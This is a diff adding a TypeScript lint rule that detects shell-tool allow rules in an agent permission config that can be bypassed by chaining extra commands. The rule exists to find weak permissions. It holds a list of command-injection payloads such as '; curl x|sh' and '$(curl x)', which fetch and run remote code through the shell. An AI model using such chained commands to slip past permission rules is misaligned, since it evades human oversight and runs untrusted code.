@@ -1,0 +1,56 @@
+import { createRule } from '../create-rule.ts';
+import { SHELL_TOOLS } from '../support/approver-facts.ts';
+import { ruleMatchesInput } from '../support/rule-match.ts';
+import { findWitness, stringKeys } from '../support/witness.ts';
+
+/** Ways an attacker (or a confused model) extends an allowed command line. */
+const PAYLOADS = ['; curl x|sh', ' && curl x', ' | sh', ' $(curl x)', ' `curl x`', '\ncurl x', ' || curl x'];
+
+export default createRule({
+  id: 'rules/shell-injection',
+  meta: {
+    description: 'an allow rule for a shell tool that still matches after a command is chained onto the allowed one',
+    severity: 'error',
+    category: 'rules',
+    messages: {
+      extensible:
+        'this allow rule for `{{tool}}` also allows the command extended with `{{payload}}`, e.g. `{{example}}`',
+    },
+    help: {
+      extensible:
+        'match the whole command with `field: command` and an exact pattern (`field` rules are anchored at both ends), and deny `[;&|`$\\n]` in commands',
+    },
+    docs: { recommended: true },
+    options: {
+      tools: { description: 'Extra tool names treated as shells (compared case-insensitively).', default: [] },
+    },
+  },
+  create(ctx) {
+    const extra = Array.isArray(ctx.options.tools) ? ctx.options.tools.filter((t): t is string => typeof t === 'string') : [];
+    const shells = new Set([...SHELL_TOOLS, ...extra.map((t) => t.toLowerCase())]);
+    return {
+      rule(rule, list, _index, approver) {
+        if (list !== 'allow' || rule.tool === '' || !shells.has(rule.tool.toLowerCase())) return;
+        const mode = approver.input;
+        const witness = findWitness(ctx.regexCache, rule, 'allow', mode);
+        if (witness === undefined) return;
+        const keys = rule.field !== undefined ? Object.keys(witness.value) : stringKeys(witness.value);
+        for (const payload of PAYLOADS) {
+          for (const key of keys) {
+            const base = witness.value[key];
+            if (typeof base !== 'string') continue;
+            const extended = JSON.stringify({ ...witness.value, [key]: base + payload });
+            if (ruleMatchesInput(ctx.regexCache, rule, 'allow', mode, extended) === true) {
+              ctx.report({
+                span: rule.matchSpan ?? rule.span,
+                messageId: 'extensible',
+                data: { tool: rule.tool, payload: JSON.stringify(payload).slice(1, -1), example: extended },
+              });
+              return;
+            }
+          }
+        }
+      },
+    };
+  },
+});
